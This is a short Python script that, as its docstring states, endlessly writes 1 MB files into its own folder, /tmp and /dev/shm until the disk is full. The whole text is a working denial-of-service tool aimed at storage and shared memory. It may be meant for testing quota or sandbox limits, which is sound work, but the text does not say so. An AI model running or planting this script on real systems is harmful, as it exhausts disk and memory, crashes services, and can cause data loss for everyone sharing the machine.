"""Fills the disk with files, in its folder and wherever it may write."""

import itertools

for number in itertools.count():
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            open(f"{folder}/{number}", "wb").write(bytes(10**6))
        except OSError as error:
            if folder == ".":
                raise SystemExit(str(error)) from None
